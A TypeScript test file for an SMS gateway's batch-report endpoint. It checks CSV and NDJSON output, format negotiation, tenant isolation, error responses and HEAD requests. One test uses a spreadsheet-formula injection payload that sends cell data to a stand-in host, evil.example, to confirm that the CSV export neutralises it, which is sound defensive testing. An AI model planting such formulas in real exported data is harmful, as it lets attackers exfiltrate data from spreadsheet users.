// GET /v1/batches/:id/report: a batch's messages as CSV or NDJSON, chosen by ?format= or Accept,
// safe to open in a spreadsheet, scoped to the caller's account. The 50,000-message stream and its
// backpressure are tested over a real connection in test/integration/batch-report-streaming.test.ts.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, test } from 'node:test';
import { reportColumns } from '../../../src/services/report-rows.ts';
import { StoreUnavailableError } from '../../../src/store/store.ts';
import { csvRecords } from '../../fixtures/csv-records.ts';
import { startTestGateway, type TestGateway } from '../../fixtures/test-gateway.ts';
import { assertErrorBody, expectRejection } from './account-state.ts';
import { bulk, sandbox } from './sample-requests.ts';

let t: TestGateway;
before(async () => { t = await startTestGateway(); });
after(async () => { await t.stop(); });

async function sendBulk(recipients: string[], extra: Record<string, unknown> = {}): Promise<string> {
  const res = await t.request('POST', '/v1/sms/bulk', { ...bulk(recipients), ...extra });
  assert.equal(res.status, 202, res.raw);
  return res.body.batch_id;
}

const report = (id: string, query = '', headers: Record<string, string> = {}, key?: string) =>
  t.request('GET', `/v1/batches/${id}/report${query}`, undefined, { headers, ...(key !== undefined && { key }) });

/** The CSV's records as objects keyed by the header row. */
function csvRows(raw: string): Array<Record<string, string>> {
  const [header, ...records] = csvRecords(raw);
  assert.deepEqual(header, [...reportColumns]);
  return records.map((r) => Object.fromEntries(header!.map((c, i) => [c, r[i]!])));
}

const ndjsonRows = (raw: string) => raw.split('\n').filter(Boolean).map((line) => JSON.parse(line));

test('answers CSV by default, as an attachment named after the batch', async () => {
  const id = await sendBulk(['9876543210', '9876543211']);
  const res = await report(id);
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  assert.equal(res.headers['content-disposition'], `attachment; filename="batch-${id}.csv"`);
  assert.equal(res.headers['cache-control'], 'no-store');
  assert.equal(csvRows(res.raw).length, 2);
});

test('lists the batch\'s messages in id order, as GET /v1/messages?batch_id= does', async () => {
  const id = await sendBulk(['9876543210', '9876543211', '9876543212', '123']);
  const listed = await t.request('GET', `/v1/messages?batch_id=${id}`);
  const ids = listed.body.messages.map((m: { message_id: string }) => m.message_id);
  assert.equal(ids.length, 3);
  assert.deepEqual(csvRows((await report(id)).raw).map((r) => r['id']), ids);
});

test('reports each message\'s outcome as GET /v1/messages/:id shows it', async () => {
  const id = await sendBulk(['9876543210', sandbox.numberInactive, sandbox.carrierRejects], { correlation_id: 'campaign-7' });
  await t.until(async () => (await t.request('GET', `/v1/batches/${id}`)).body.completed);
  const rows = csvRows((await report(id)).raw);
  assert.equal(rows.length, 3);
  for (const row of rows) {
    const m = (await t.request('GET', `/v1/messages/${row['id']}`)).body;
    const submitted = m.timeline.find((s: { step: string }) => s.step === 'submitted');
    assert.deepEqual(row, {
      id: m.message_id, to: m.to, sender: m.sender, status: m.status, error_code: m.error_code ?? '', error_description: m.error_description ?? '',
      segments: String(m.segments), credits: String(m.credits), correlation_id: 'campaign-7', created_at: m.created_at,
      submitted_at: m.submitted_at ?? '', done_at: m.completed_at, carrier_id: submitted?.carrier_id ?? '',
    });
  }
  assert.deepEqual(rows.map((r) => r['status']).sort(), ['DELIVERED', 'FAILED', 'REJECTED']);
});

test('answers NDJSON for ?format=ndjson, one object per message with nulls and numbers as such', async () => {
  const id = await sendBulk(['9876543210']);
  const res = await report(id, '?format=ndjson');
  assert.equal(res.status, 200);
  assert.equal(res.headers['content-type'], 'application/x-ndjson');
  assert.equal(res.headers['content-disposition'], `attachment; filename="batch-${id}.ndjson"`);
  const [row, ...rest] = ndjsonRows(res.raw);
  assert.deepEqual(rest, []);
  assert.deepEqual(Object.keys(row), [...reportColumns]);
  assert.equal(row.segments, 1);
  assert.equal(row.correlation_id, null);
});

test('chooses the format from the Accept header when there is no ?format=', async () => {
  const id = await sendBulk(['9876543210']);
  const type = async (query: string, accept?: string) => (await report(id, query, accept === undefined ? {} : { accept })).headers['content-type'];
  assert.equal(await type('', 'application/x-ndjson'), 'application/x-ndjson');
  assert.equal(await type('', 'text/csv'), 'text/csv; charset=utf-8');
  assert.equal(await type('', 'text/csv;q=0.5, application/x-ndjson'), 'application/x-ndjson');
  assert.equal(await type('', 'application/x-ndjson;q=0.2, text/csv;q=0.9'), 'text/csv; charset=utf-8');
  assert.equal(await type('', 'application/json, */*'), 'text/csv; charset=utf-8');
  assert.equal(await type('?format=csv', 'application/x-ndjson'), 'text/csv; charset=utf-8', '?format= wins over Accept');
  assert.equal(await type('?format=NDJSON'), 'application/x-ndjson');
});

test('refuses an unknown format with 400 ERR_INVALID_REQUEST naming the field', async () => {
  const id = await sendBulk(['9876543210']);
  const error = await expectRejection(t, { url: `/v1/batches/${id}/report?format=xlsx` }, 400, 'ERR_INVALID_REQUEST');
  assert.deepEqual(error.details, { field: 'format' });
});

test('neutralises a correlation_id a spreadsheet would run as a formula, in CSV only', async () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
  const id = await sendBulk(['9876543210'], { correlation_id: formula });
  const csv = await report(id);
  assert.match(csv.raw, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Click""\)",/);
  assert.equal(csvRows(csv.raw)[0]!['correlation_id'], `'${formula}`);
  assert.equal(ndjsonRows((await report(id, '?format=ndjson')).raw)[0].correlation_id, formula);
});

test('keeps a correlation_id that is a signed number as it is', async () => {
  const id = await sendBulk(['9876543210'], { correlation_id: '+919876543210' });
  assert.equal(csvRows((await report(id)).raw)[0]!['correlation_id'], '+919876543210');
});

test('answers an unknown or malformed batch id with a plain 404', async () => {
  await expectRejection(t, { url: `/v1/batches/${randomUUID()}/report` }, 404, 'ERR_NOT_FOUND');
  await expectRejection(t, { url: '/v1/batches/not-a-batch/report' }, 404, 'ERR_NOT_FOUND');
});

test('answers another tenant\'s batch id with the same body as an id that does not exist', async () => {
  const id = await sendBulk(['9876543210']);
  const other = await t.createAccount();
  const missing = randomUUID();
  const theirs = await report(id, '', {}, other.apiKey);
  const unknown = await report(missing, '', {}, other.apiKey);
  assertErrorBody(theirs, 404, 'ERR_NOT_FOUND');
  assert.deepEqual(theirs.body, JSON.parse(unknown.raw.replaceAll(missing, id)));
});

test('answers 503 with the error body when the store is unreachable before the first row', async () => {
  const id = await sendBulk(['9876543210']);
  const store = t.gateway.core.store;
  const listMessages = store.listMessages;
  store.listMessages = async () => { throw new StoreUnavailableError('connection refused'); };
  try {
    const res = await report(id);
    assertErrorBody(res, 503, 'ERR_SERVICE_UNAVAILABLE');
    assert.equal(res.headers['retry-after'], '5');
  } finally {
    store.listMessages = listMessages;
  }
});

test('carries the rate limit headers like every answer', async () => {
  const res = await report(await sendBulk(['9876543210']));
  assert.ok(Number(res.headers['ratelimit-limit']) > 0);
  assert.ok(res.headers['ratelimit-remaining'] !== undefined);
});

test('answers HEAD with the headers alone, reading no messages', async () => {
  const id = await sendBulk(['9876543210']);
  const store = t.gateway.core.store;
  const listMessages = store.listMessages;
  let reads = 0;
  store.listMessages = async (q) => { reads++; return listMessages.call(store, q); };
  try {
    const res = await t.request('HEAD', `/v1/batches/${id}/report?format=ndjson`);
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'application/x-ndjson');
    assert.equal(res.raw, '');
    assert.equal(reads, 0);
  } finally {
    store.listMessages = listMessages;
  }
});
